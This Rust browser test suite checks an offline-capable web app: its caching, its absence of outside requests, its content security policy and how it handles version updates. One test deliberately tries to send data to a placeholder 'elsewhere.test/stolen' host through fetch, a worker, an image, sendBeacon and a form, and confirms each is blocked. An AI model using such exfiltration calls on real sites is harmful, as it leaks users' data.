//! Private and offline: the page without a network, the requests it does not make, the policy that forbids them, and a new
//! version that waits for its moment.

use serde_json::json;

use crate::browser::{Page, Setup, open, with_page};
use crate::hands::{array, clouds};
use crate::host::{Host, MISSING, Version, build};

/// Runs a test on a host of its own.
fn on_host(test: impl AsyncFnOnce(Page, Host)) {
    let host = Host::start();
    let setup = Setup { size: (1280, 1400), host: Some(host.place.clone()), ..Setup::default() };
    with_page(setup, async move |page| test(page, host).await);
}

impl Page {
    /// Waits until all files are kept.
    pub(crate) async fn kept(&self) {
        self.wait_for("[data-testid=offline][data-state=ready]").await;
    }

    /// Waits until a script that may take its time gives something else than null.
    pub(crate) async fn until(&self, script: &str) -> serde_json::Value {
        for _ in 0..6000 {
            let value = self.script(script).await;
            if !value.is_null() {
                return value;
            }
            self.sleep(50).await;
        }
        panic!("nothing came of {script}");
    }

    /// What an async function gives.
    pub(crate) async fn async_script(&self, body: &str) -> serde_json::Value {
        let script = format!(
            "window.answer = null;
             (async () => {{ {body} }})().then(
               value => window.answer = {{ value: value ?? null }},
               error => window.answer = {{ error: `${{error.name}}: ${{error.message}}` }});"
        );
        self.script(&script).await;
        self.until("return window.answer").await
    }

    /// The build that the page is of.
    async fn build(&self) -> String {
        let script = "return document.querySelector('meta[name=concord-build]')?.content ?? null";
        self.until(script).await.as_str().expect("a name").to_owned()
    }
}

#[test]
fn after_the_first_visit_the_page_works_without_a_network() {
    on_host(async |page, host| {
        open(&page, "?executor=cpu&sample=none").await;
        page.kept().await;
        host.serve(Version::None);
        // A new visit, with a sample that was never looked at before.
        open(&page, "?executor=cpu&sample=swiss").await;
        page.done().await;
        page.click("sample-digits").await;
        page.wait_for("[data-testid=sample-digits][aria-pressed=true]").await;
        page.done().await;
        page.click("preset-quick").await;
        page.aligned().await;
        assert!(page.metric("label-transfer").await > 0.8, "a complete alignment");
        page.shoot("offline").await;
        let fetched = host.seen().iter().filter(|seen| seen.ends_with("/x.npy")).count();
        assert_eq!(fetched, 4, "every sample was fetched once, on the first visit");
    });
}

#[test]
fn a_complete_session_makes_no_request_and_breaks_no_rule() {
    on_host(async |page, host| {
        open(&page, "?executor=cpu&sample=none").await;
        page.kept().await;
        page.wait_for("[data-testid=executor][data-executor=cpu]").await;
        let ours = format!("http://{}/", host.place);
        let strange: Vec<String> =
            host.seen().into_iter().filter(|seen| !seen.starts_with(&format!("GET {ours}"))).collect();
        assert_eq!(strange, Vec::<String>::new(), "while it is loaded, the page asks nobody but its host");
        let loaded = host.seen().len();
        assert!(loaded > 30, "{loaded}: the watcher sees what is loaded");

        // Own files, an alignment, a look around, results taken away, new rows, another view.
        let (x, y, _) = clouds(5);
        page.pick("file-x", "x.npy", &array(&x)).await;
        page.drop_on("drop-y", "y.npy", &array(&y)).await;
        page.wait_for("[data-testid=size-x]").await;
        page.wait_for("[data-testid=size-y]").await;
        page.aligned().await;
        page.click("colour-confidence").await;
        page.script(
            "const canvas = document.querySelector('[data-testid=view-aligned]');
             const { left, top, width, height } = canvas.getBoundingClientRect();
             for (let i = 0; i < 40; i++) canvas.dispatchEvent(new PointerEvent('pointermove',
               { bubbles: true, clientX: left + width * i / 40, clientY: top + height / 2 }));",
        )
        .await;
        for file in ["matches", "plan", "projection", "model", "onnx-x", "record", "everything"] {
            let (name, bytes) = page.take(&format!("download-{file}")).await;
            assert!(!bytes.is_empty(), "{name}");
        }
        page.click("compare").await;
        page.wait_for("[data-testid=compared-spearman]").await;
        let (new_x, new_y, _) = clouds(6);
        page.pick("new-x", "new.npy", &array(&new_x)).await;
        page.pick("new-y", "new.npy", &array(&new_y)).await;
        page.click("apply").await;
        page.wait_for("[data-testid=new-badge]").await;
        page.follow("diagnostics").await;
        page.click("demo-restart").await;
        page.wait_for("[data-testid=demo-status][data-state=done]").await;
        // A worker that crashes is replaced without asking anybody.
        page.click("drill-panic").await;
        page.wait_for("[data-testid=notice]").await;
        page.wait_for("[data-testid=executor][data-executor=cpu]").await;

        let after = host.seen().split_off(loaded);
        assert_eq!(after, Vec::<String>::new(), "nothing is asked of anybody after the page is there");
        assert_eq!(page.script("return window.refused").await, json!([]), "nothing was refused either");

        // And the watcher would have seen it.
        page.async_script("await fetch('./nothing-of-ours')").await;
        let after = host.seen().split_off(loaded);
        assert_eq!(after, [format!("GET {ours}some/folder/nothing-of-ours")]);
    });
}

#[test]
fn the_policy_lets_nothing_out_of_page_and_worker() {
    on_host(async |page, host| {
        open(&page, "?executor=cpu&sample=none").await;
        page.kept().await;
        let loaded = host.seen().len();
        let elsewhere = "http://elsewhere.test/stolen";
        let fetched = page.async_script(&format!("await fetch('{elsewhere}')")).await;
        assert!(fetched["error"].as_str().is_some_and(|e| e.starts_with("TypeError")), "{fetched}");
        // Workers from blobs, as ours is, have the policy of their page.
        let worker = format!(
            "const code = \"fetch('{elsewhere}').then(() => postMessage('sent'), () => postMessage('refused'))\";
             const worker = new Worker(URL.createObjectURL(new Blob([code])));
             return await new Promise(done => worker.onmessage = event => done(event.data));"
        );
        assert_eq!(page.async_script(&worker).await["value"], "refused");
        let others = format!(
            "new Image().src = '{elsewhere}.png';
             navigator.sendBeacon('{elsewhere}', 'x');
             const form = Object.assign(document.createElement('form'), {{ action: '{elsewhere}' }});
             document.body.append(form); form.submit();
             const script = Object.assign(document.createElement('script'), {{ textContent: 'window.inline = 1' }});
             document.head.append(script);
             document.body.setAttribute('style', 'color: red');
             await new Promise(done => setTimeout(done, 500));
             return [window.inline ?? null, document.body.style.color, window.refused.map(r => r.split(' ')[0]).sort()];"
        );
        let seen = page.async_script(&others).await;
        let directives =
            ["connect-src", "connect-src", "form-action", "img-src", "script-src-elem", "style-src-attr"];
        assert_eq!(seen["value"], json!([null, "", directives]), "{seen}");
        assert_eq!(host.seen().split_off(loaded), Vec::<String>::new());
    });
}

#[test]
fn a_new_version_waits_until_the_run_is_done_and_is_wanted() {
    on_host(async |page, host| {
        open(&page, "?executor=cpu&sample=none").await;
        page.kept().await;
        let (x, y, _) = clouds(5);
        page.pick("file-x", "x.npy", &array(&x)).await;
        page.pick("file-y", "y.npy", &array(&y)).await;
        page.wait_for("[data-testid=size-y]").await;
        page.click("align").await;
        page.wait_for("[data-testid=status][data-state=training]").await;
        page.click("pause").await;
        page.wait_for("[data-testid=status][data-state=paused]").await;

        host.serve(Version::Newer);
        // A visit in another tab is when a browser looks for a new version.
        let first = page.client.window().await.expect("a window");
        let second = page.client.new_window(true).await.expect("a tab").handle;
        page.client.switch_to_window(second).await.expect("switches");
        open(&page, "?executor=cpu&sample=none").await;
        page.wait_for("[data-testid=update]").await;
        assert!(page.text("update").await.contains("nothing of yours is lost"));
        assert_eq!(page.build().await, build(), "a visit beside an old page is still of the old version");
        page.click("update-later").await;
        assert_eq!(page.count("[data-testid=update]").await, 0);
        page.client.close_window().await.expect("closes");
        page.client.switch_to_window(first).await.expect("switches");

        // The run goes on with the files of its own version, even if it has to start its worker anew.
        let waits =
            "return navigator.serviceWorker.getRegistration().then(found => found.waiting ? true : null)";
        page.until(waits).await;
        assert_eq!(page.count("[data-testid=update]").await, 0, "nothing is offered in the midst of a run");
        page.wait_for("[data-testid=status][data-state=paused]").await;
        page.click("pause").await;
        page.done().await;
        page.wait_for("[data-testid=update]").await;
        // The files are the visitor's own, and kept.
        page.says("update", "nothing of yours is lost").await;
        page.shoot("update").await;
        page.follow("diagnostics").await;
        page.click("drill-panic").await;
        page.wait_for("[data-testid=notice]").await;
        page.wait_for("[data-testid=executor][data-executor=cpu]").await;
        page.follow("").await;
        assert_eq!(page.build().await, build(), "nothing is loaded anew by itself");

        page.click("update-now").await;
        let newer = format!("{}newer", build());
        let script = format!(
            "return document.querySelector('meta[name=concord-build]')?.content === '{newer}' ? true : null"
        );
        page.until(&script).await;
        page.wait_for("[data-testid=executor][data-executor=cpu]").await;
        page.kept().await;
        assert_eq!(page.count("[data-testid=update]").await, 0);
    });
}

/// A version of which some file is another than it should be is not kept at all, and is tried again.
#[test]
fn half_an_upload_is_not_kept() {
    on_host(async |page, host| {
        host.serve(Version::Halfway);
        open(&page, "?executor=cpu&sample=none").await;
        page.wait_for("[data-testid=executor][data-executor=cpu]").await;
        while !host.seen().iter().any(|seen| seen.ends_with(MISSING)) {
            page.sleep(50).await;
        }
        page.until(
            "return navigator.serviceWorker.getRegistration().then(found => found?.installing ? null : true)",
        )
        .await;
        assert_eq!(page.async_script("return await caches.keys()").await["value"], json!([]));
        assert_eq!(page.count("[data-testid=offline][data-state=ready]").await, 0);
        host.serve(Version::Built);
        open(&page, "?executor=cpu&sample=none").await;
        page.kept().await;
    });
}

#[test]
fn nothing_is_kept_while_the_app_is_developed() {
    on_host(async |page, host| {
        open(&page, "?executor=cpu&sample=none").await;
        page.kept().await;
        host.serve(Version::Developed);
        open(&page, "?executor=cpu&sample=none").await;
        let left = "const kept = await caches.keys();
                    return kept.length + (await navigator.serviceWorker.getRegistrations()).length;";
        for _ in 0..2000 {
            if page.async_script(left).await["value"] == json!(0) {
                return;
            }
            page.sleep(50).await;
        }
        panic!("something is still kept");
    });
}
